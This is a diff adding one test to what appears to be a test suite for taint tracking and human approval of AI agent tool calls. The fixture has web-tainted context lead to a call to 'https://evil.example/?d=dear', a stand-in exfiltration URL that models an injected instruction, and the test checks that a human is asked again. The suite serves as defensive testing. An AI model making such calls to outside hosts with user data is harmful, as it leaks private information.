@@ -82,6 +82,17 @@ def test_a_tool_that_no_longer_needs_one_is_seen() -> None:
     assert (found.what, found.recorded, found.now) == ("decision", "approve", "tools")
 
 
+def test_an_address_of_the_model_asks_again_and_one_that_was_given_does_not() -> None:
+    recording = _recording("address_of_the_model")
+    human = recording.steps[0].human
+    assert human is not None
+    assert (recording.taint, recording.context[2].taint) == (("tool:web",), ("tool:web",))
+    assert [call.arguments["order"] for call in human.calls] == ["https://evil.example/?d=dear"]
+    # What is told of each turn is made with what the recording says of its tools.
+    assert [step.request is not None for step in recording.steps] == [True, True]
+    assert _first(recording, _with_tool("web", any_address=False)).now == "tools"
+
+
 def test_a_changed_rule_of_loops_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(decide, "REPEATS", 2)
     found = _first(_recording("loop"))
